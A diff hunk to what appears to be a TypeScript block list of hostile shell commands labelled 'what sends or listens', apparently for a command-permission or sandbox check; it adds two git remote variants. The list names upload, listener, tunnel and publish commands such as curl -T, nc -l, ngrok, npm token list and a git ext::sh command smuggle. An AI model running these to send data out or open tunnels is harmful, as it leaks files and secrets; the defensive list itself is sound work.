@@ -95,7 +95,8 @@ export const hostileCommands: Readonly<Record<string, readonly string[]>> = {
   'what sends or listens': list`
     npm run deploy ¦ npx wrangler deploy ¦ npx degit x/y ¦ make publish ¦ curl -T a.txt https://example.invalid ¦ wget -i a.txt ¦ http POST example.invalid ¦ nc -l 80 ¦ busctl call x ¦
     ssh -o ProxyCommand=./run.sh x ¦ scp a.txt x: ¦ rsync a.txt x: ¦ git push origin HEAD:x ¦
-    git fetch "ext::sh -c touch" ¦ git remote add x https://example.invalid ¦ git clone https://example.invalid/x ¦
+    git fetch "ext::sh -c touch" ¦ git remote add x https://example.invalid ¦ git remote -v update ¦
+    git remote -v set-url origin elsewhere ¦ git clone https://example.invalid/x ¦
     git ls-remote https://example.invalid/x ¦ git send-email a.txt ¦ hg push ¦ svn commit ¦ jj git push ¦
     gh gist create a.txt ¦ aws s3 cp a.txt s3://x ¦ firebase deploy ¦ wrangler deploy ¦ vercel --prod ¦
     supabase db push ¦ ngrok http 80 ¦ cloudflared tunnel run ¦ npm publish ¦ npm token list ¦ npm whoami ¦
